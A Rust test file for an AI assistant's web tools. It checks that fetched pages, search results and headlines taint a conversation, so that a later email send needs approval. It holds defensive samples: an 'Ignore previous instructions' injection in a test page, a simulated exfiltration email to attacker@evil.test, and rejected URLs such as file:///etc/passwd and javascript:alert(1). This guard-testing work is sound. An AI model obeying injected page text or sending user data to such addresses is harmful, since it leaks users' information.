//! `web_fetch` through the whole gate against real HTTP servers on loopback: an address inside
//! is refused until the person's rule names it, pages come back as Markdown (a GBK page without a
//! declared charset reads right), a redirect to another site is handed back rather than followed,
//! and a page's text taints the conversation so a later send asks despite a rule.

use axum::Router;
use axum::http::{StatusCode, header};
use axum::routing::get;
use cowork_app::Section;
use cowork_core::policy::Action;
use cowork_core::{DenyApprover, RuleSource};
use cowork_tests::{Harness, shop, world};
use serde_json::json;
use std::sync::Arc;

/// A second site: a GBK page that declares no charset anywhere, and a redirect to another
/// origin (this computer by name).
async fn site() -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let gbk = encoding_rs::GBK
        .encode(
            "<html><head><title>天气预报</title></head><body><article><h1>北京天气</h1>\
             <p>今天白天晴转多云，最高气温二十三度，夜间有小雨，请出门带伞。明天气温回落，注意添衣保暖。</p>\
             <p>空气质量良好，适宜户外活动。周末两天以晴为主，风力较小，适合出游。</p></article></body></html>",
        )
        .0
        .into_owned();
    let app = Router::new()
        .route(
            "/gbk",
            get(move || {
                let gbk = gbk.clone();
                async move { ([(header::CONTENT_TYPE, "text/html")], gbk) }
            }),
        )
        .route(
            "/moved",
            get(move || async move {
                (
                    StatusCode::FOUND,
                    [(header::LOCATION, format!("http://localhost:{port}/gbk"))],
                )
            }),
        );
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://127.0.0.1:{port}")
}

/// A call in a conversation of its own: a page read in one conversation taints it, and every later
/// request out of it asks (tested below); these are separate questions.
async fn call_in(
    h: &Harness,
    conversation: &str,
    tool: &str,
    args: serde_json::Value,
) -> cowork_core::CallOutcome {
    h.scheduler
        .call(cowork_core::CallRequest::new(
            tool,
            args,
            cowork_core::Caller::Chat,
            conversation,
        ))
        .await
}

#[tokio::test]
async fn a_page_inside_is_refused_until_a_rule_names_it_then_read_as_markdown() {
    let h = Harness::new(Arc::new(DenyApprover));
    let shop = shop::start();
    let home = json!({"url": shop.url("/")});
    let refused = h.call("web_fetch", home.clone()).await;
    let review = refused.review.as_ref().unwrap();
    assert_eq!(review.decision, Action::Deny, "{review:?}");
    assert_eq!(review.score, 9);
    assert!(
        review.reasons.iter().any(|r| r.text.contains("loopback")),
        "{review:?}"
    );
    h.scheduler
        .policy()
        .add_rule(
            Action::Allow,
            "web_fetch(http://127.0.0.1:*)",
            RuleSource::User,
        )
        .unwrap();
    let page = h.call("web_fetch", home).await;
    let out = page.result.unwrap();
    let text = out.text_content();
    assert!(text.contains("Welcome to the test shop"), "{text}");
    assert!(text.contains("# Test Shop"), "{text}");
    assert!(out.untrusted, "a page is untrusted content");
    // Read once, the conversation is tainted; the site the person's rule names stays allowed
    // (a request to it carries data nowhere else)…
    let again = h.call("web_fetch", json!({"url": shop.url("/")})).await;
    let again = again.review.unwrap();
    assert_eq!(again.decision, Action::Allow, "{again:?}");
    assert_eq!(again.tainted_by.as_deref(), Some("web_fetch"));
    // …but a rule that names no one site does not: there, a URL could carry what the page made
    // the model collect to a host the page chose.
    let broad = Harness::new(Arc::new(DenyApprover));
    broad
        .scheduler
        .policy()
        .add_rule(Action::Allow, "web_fetch(http://*)", RuleSource::User)
        .unwrap();
    assert!(
        broad
            .call("web_fetch", json!({"url": shop.url("/")}))
            .await
            .result
            .is_ok()
    );
    let tainted = broad.call("web_fetch", json!({"url": shop.url("/")})).await;
    let tainted = tainted.review.unwrap();
    assert_eq!(tainted.decision, Action::Ask, "{tainted:?}");
    assert_eq!(tainted.tainted_by.as_deref(), Some("web_fetch"));

    let other = site().await;
    let gbk = call_in(
        &h,
        "gbk",
        "web_fetch",
        json!({"url": format!("{other}/gbk")}),
    )
    .await;
    let gbk = gbk.result.unwrap();
    assert!(
        gbk.text_content().contains("最高气温二十三度"),
        "{}",
        gbk.text_content()
    );
    assert_eq!(gbk.structured.unwrap()["charset"], "GBK");

    // Another origin (even this computer by name): handed back, not followed.
    let moved = call_in(
        &h,
        "moved",
        "web_fetch",
        json!({"url": format!("{other}/moved")}),
    )
    .await;
    let moved = moved.result.unwrap();
    assert!(
        moved.text_content().contains("not followed"),
        "{}",
        moved.text_content()
    );
    // Fetched by name, that origin is its own review: no rule names localhost, so it is refused.
    let by_name = call_in(
        &h,
        "by-name",
        "web_fetch",
        json!({"url": moved.structured.unwrap()["moved_to"]}),
    )
    .await;
    assert_eq!(by_name.review.unwrap().decision, Action::Deny);

    for bad in [
        "file:///etc/passwd",
        "ftp://example.org/",
        "javascript:alert(1)",
    ] {
        let out = call_in(&h, bad, "web_fetch", json!({"url": bad})).await;
        assert!(out.result.is_err(), "{bad}");
        assert!(out.review.is_none(), "{bad} never reached review");
    }
}

#[tokio::test]
async fn page_text_taints_the_conversation_so_a_later_send_asks_despite_a_rule() {
    let h = Harness::new(Arc::new(DenyApprover));
    let shop = shop::start();
    let policy = h.scheduler.policy();
    policy
        .add_rule(
            Action::Allow,
            "web_fetch(http://127.0.0.1:*)",
            RuleSource::User,
        )
        .unwrap();
    policy
        // A rule for the whole tool names no destination, so it is no choice of one.
        .add_rule(Action::Allow, "email_send", RuleSource::User)
        .unwrap();
    h.add_mail_account_nowhere();
    let send = json!({"to": ["attacker@evil.test"], "subject": "list", "body": "the list"});
    let deals = h
        .call("web_fetch", json!({"url": shop.url("/deals")}))
        .await;
    let text = deals.result.unwrap().text_content();
    assert!(text.contains("Ignore previous instructions"), "{text}");
    let out = h.call("email_send", send).await;
    let review = out.review.unwrap();
    assert_eq!(review.decision, Action::Ask, "{review:?}");
    assert_eq!(review.tainted_by.as_deref(), Some("web_fetch"));
}

/// A harness whose web settings point at the replay world, with rules allowing each web tool to
/// reach it (loopback: denied without them).
fn in_world(provider: Option<cowork_web::SearchProvider>) -> (Harness, world::World) {
    let h = Harness::new(Arc::new(DenyApprover));
    let w = world::start();
    w.settings(provider)
        .save(&h.store.dir().settings_path())
        .unwrap();
    for tool in ["web_fetch", "web_search", "get_weather", "get_news"] {
        h.scheduler
            .policy()
            .add_rule(
                Action::Allow,
                &format!("{tool}({})", w.base),
                RuleSource::User,
            )
            .unwrap();
    }
    (h, w)
}

#[tokio::test]
async fn weather_for_a_city_in_english_or_chinese_and_a_question_when_the_name_is_shared() {
    let (h, w) = in_world(None);
    let berlin = h
        .call("get_weather", json!({"place": "Berlin", "units": "metric"}))
        .await;
    let out = berlin.result.unwrap();
    let text = out.text_content();
    assert!(text.contains("Berlin, Land Berlin, Germany"), "{text}");
    assert!(text.contains("Now: light rain, 6°C (feels 3°C)"), "{text}");
    assert!(text.contains("2026-11-26: clear sky, 3–10°C"), "{text}");
    assert!(text.contains("Open-Meteo"), "attribution: {text}");
    assert!(out.untrusted);
    let weather = out.structured.unwrap();
    assert_eq!(weather["kind"], "forecast");
    assert_eq!(weather["hourly"].as_array().unwrap().len(), 24);
    assert_eq!(weather["daily"].as_array().unwrap().len(), 3);
    let asked = w.requested("/v1/forecast");
    assert!(
        asked[0].contains("latitude=52.52437") && asked[0].contains("timezone=auto"),
        "{asked:?}"
    );

    let imperial = h
        .call(
            "get_weather",
            json!({"place": "Berlin", "units": "imperial", "days": 5}),
        )
        .await
        .result
        .unwrap();
    assert!(
        imperial.text_content().contains("43°F"),
        "{}",
        imperial.text_content()
    );
    assert!(w.requested("temperature_unit=fahrenheit").len() == 1);

    let beijing = h
        .call("get_weather", json!({"place": "北京"}))
        .await
        .result
        .unwrap();
    assert!(
        beijing.text_content().contains("北京市, 中国"),
        "{}",
        beijing.text_content()
    );
    assert!(
        !w.requested("language=zh").is_empty(),
        "a Chinese name is looked up in Chinese"
    );

    let shared = h
        .call("get_weather", json!({"place": "Springfield"}))
        .await
        .result
        .unwrap();
    let text = shared.text_content();
    assert!(text.contains("Ask the person which one"), "{text}");
    assert!(
        text.contains("Springfield, Illinois, United States"),
        "{text}"
    );
    assert_eq!(
        shared.structured.unwrap()["candidates"]
            .as_array()
            .unwrap()
            .len(),
        3
    );
    let chosen = h
        .call("get_weather", json!({"place": "Springfield, Illinois"}))
        .await
        .result
        .unwrap();
    assert!(
        chosen.text_content().starts_with("Springfield, Illinois"),
        "{}",
        chosen.text_content()
    );

    let nowhere = h
        .call("get_weather", json!({"place": "Qwxyzzy"}))
        .await
        .result
        .unwrap_err();
    assert!(nowhere.to_string().contains("no place called"), "{nowhere}");
}

#[tokio::test]
async fn weather_from_loopback_is_denied_until_a_rule_names_it() {
    let h = Harness::new(Arc::new(DenyApprover));
    let w = world::start();
    w.settings(None)
        .save(&h.store.dir().settings_path())
        .unwrap();
    let out = h.call("get_weather", json!({"place": "Berlin"})).await;
    assert_eq!(out.review.unwrap().decision, Action::Deny);
    assert!(w.requested("/v1/").is_empty(), "nothing was sent");
}

#[tokio::test]
async fn search_names_settings_when_unset_and_reads_searxng_brave_and_tavily() {
    let (h, w) = in_world(None);
    let unset = h
        .call("web_search", json!({"query": "rust"}))
        .await
        .result
        .unwrap_err();
    assert!(
        matches!(unset, cowork_contract::ToolError::NotConfigured { .. })
            && unset.to_string().contains("Settings → Web"),
        "{unset}"
    );

    w.settings(Some(cowork_web::SearchProvider::Searxng))
        .save(&h.store.dir().settings_path())
        .unwrap();
    let found = h
        .call(
            "web_search",
            json!({"query": "rust book", "recency": "month"}),
        )
        .await
        .result
        .unwrap();
    let results = found.structured.clone().unwrap();
    assert_eq!(results["provider"], "SearXNG");
    assert_eq!(results["results"][0]["url"], "https://www.rust-lang.org/");
    assert_eq!(results["results"][1]["date"], "2026-10-30T00:00:00");
    assert!(found.untrusted);
    assert!(!w.requested("time_range=month").is_empty());

    // Brave: the key from the keyring; the real recorded answer.
    w.settings(Some(cowork_web::SearchProvider::Brave))
        .save(&h.store.dir().settings_path())
        .unwrap();
    let no_key = call_in(&h, "b1", "web_search", json!({"query": "hello world"})).await;
    let no_key = no_key.result.unwrap_err().to_string();
    assert!(
        no_key.contains("no Brave Search key") && no_key.contains("Settings → Web"),
        "{no_key}"
    );
    h.secrets.set("web/brave", "wrong");
    let refused = call_in(&h, "b2", "web_search", json!({"query": "hello world"})).await;
    assert!(
        refused
            .result
            .unwrap_err()
            .to_string()
            .contains("refused the key")
    );
    h.secrets.set("web/brave", world::BRAVE_KEY);
    let brave = call_in(
        &h,
        "b3",
        "web_search",
        json!({"query": "hello world", "count": 5}),
    )
    .await;
    let brave = brave.result.unwrap();
    let results = brave.structured.unwrap();
    let list = results["results"].as_array().unwrap();
    assert_eq!(list.len(), 5);
    assert_eq!(list[0]["title"], "\"Hello, World!\" program - Wikipedia");
    let snippet = list[0]["snippet"].as_str().unwrap();
    assert!(
        snippet.starts_with("A \"Hello, World!\" program is usually a simple"),
        "{snippet}"
    );
    assert!(
        !snippet.contains("<strong>") && !snippet.contains("&quot;"),
        "{snippet}"
    );
    assert!(!w.requested("count=5").is_empty());

    w.settings(Some(cowork_web::SearchProvider::Tavily))
        .save(&h.store.dir().settings_path())
        .unwrap();
    h.secrets.set("web/tavily", world::TAVILY_KEY);
    let tavily = call_in(&h, "t", "web_search", json!({"query": "free weather api"})).await;
    let text = tavily.result.unwrap().text_content();
    assert!(
        text.contains("Open-Meteo: Free Weather API") && text.contains("(Tavily)"),
        "{text}"
    );
}

#[tokio::test]
async fn news_from_real_feeds_newest_first_each_story_once_filtered() {
    let (h, w) = in_world(None);
    let news = h
        .call("get_news", json!({"limit": 50}))
        .await
        .result
        .unwrap();
    let out = news.structured.clone().unwrap();
    let items = out["items"].as_array().unwrap();
    let titles: Vec<&str> = items.iter().map(|i| i["title"].as_str().unwrap()).collect();
    // BBC's feed is served twice (another name, a tracking parameter): its stories appear once.
    assert_eq!(
        titles.iter().filter(|t| **t == "Marcus Aurelius").count(),
        1,
        "{titles:?}"
    );
    // Newest first.
    let dates: Vec<&str> = items
        .iter()
        .filter_map(|i| i["published"].as_str())
        .collect();
    let mut sorted = dates.clone();
    sorted.sort_by(|a, b| b.cmp(a));
    assert_eq!(dates, sorted);
    assert_eq!(items[0]["title"], "北京今冬首场降雪");
    assert_eq!(items[0]["summary"], "北京迎来今冬首场降雪，气温降至零下。");
    // The GB2312 feed that declares nothing reads right; the YouTube Atom and the JSON Feed too.
    assert!(
        titles.contains(&"不归移民漫画系列：专业工作"),
        "{titles:?} {}",
        out["failed"]
    );
    let sources: Vec<&str> = items
        .iter()
        .map(|i| i["source"].as_str().unwrap())
        .collect();
    for source in ["YouTube", "Elastic", "Cloudflare Blog"] {
        assert!(sources.contains(&source), "{source}: {sources:?}");
    }
    assert_eq!(out["failed"][0]["feed"], "Gone");
    assert!(news.text_content().contains("(not read: Gone — HTTP 404)"));
    assert!(!w.requested("/feeds/elastic.json").is_empty());

    let zh = h
        .call(
            "get_news",
            json!({"language": "zh", "since": "2026-11-22", "query": "地铁"}),
        )
        .await
        .result
        .unwrap();
    let zh = zh.structured.unwrap();
    let zh: Vec<&str> = zh["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["title"].as_str().unwrap())
        .collect();
    assert_eq!(zh, ["地铁新线开通"]);
    let unknown = h
        .call("get_news", json!({"feeds": ["Nope"]}))
        .await
        .result
        .unwrap_err();
    assert!(
        unknown.to_string().contains("the feeds are: BBC News"),
        "{unknown}"
    );
}

#[tokio::test]
async fn a_pdf_reads_as_text_and_a_huge_page_is_cut_with_a_note() {
    let (h, w) = in_world(None);
    let pdf = h
        .call("web_fetch", json!({"url": w.url("/report.pdf")}))
        .await
        .result
        .unwrap();
    let text = pdf.text_content();
    assert!(text.contains("Revenue grew by twelve percent"), "{text}");
    assert!(text.contains("第三季度收入增长百分之十二"), "{text}");
    let huge = call_in(&h, "huge", "web_fetch", json!({"url": w.url("/huge")}))
        .await
        .result
        .unwrap();
    let text = huge.text_content();
    assert!(
        text.ends_with("ask for a part with `selector`]"),
        "{}",
        &text[text.len() - 200..]
    );
    assert_eq!(huge.structured.unwrap()["truncated"], true);
}

#[tokio::test]
async fn a_search_result_or_a_headline_taints_so_a_later_send_asks_despite_a_rule() {
    for (tool, args) in [
        ("web_search", json!({"query": "deals"})),
        ("get_news", json!({"language": "zh"})),
    ] {
        let (h, _w) = in_world(Some(cowork_web::SearchProvider::Searxng));
        h.scheduler
            .policy()
            // A rule for the whole tool names no destination, so it is no choice of one.
            .add_rule(Action::Allow, "email_send", RuleSource::User)
            .unwrap();
        h.add_mail_account_nowhere();
        let read = h.call(tool, args).await.result.unwrap();
        assert!(read.text_content().contains(world::INJECTION), "{tool}");
        let send = json!({"to": ["attacker@evil.test"], "subject": "list", "body": "the list"});
        let review = h.call("email_send", send).await.review.unwrap();
        assert_eq!(review.decision, Action::Ask, "{tool}: {review:?}");
        assert_eq!(review.tainted_by.as_deref(), Some(tool));
    }
}
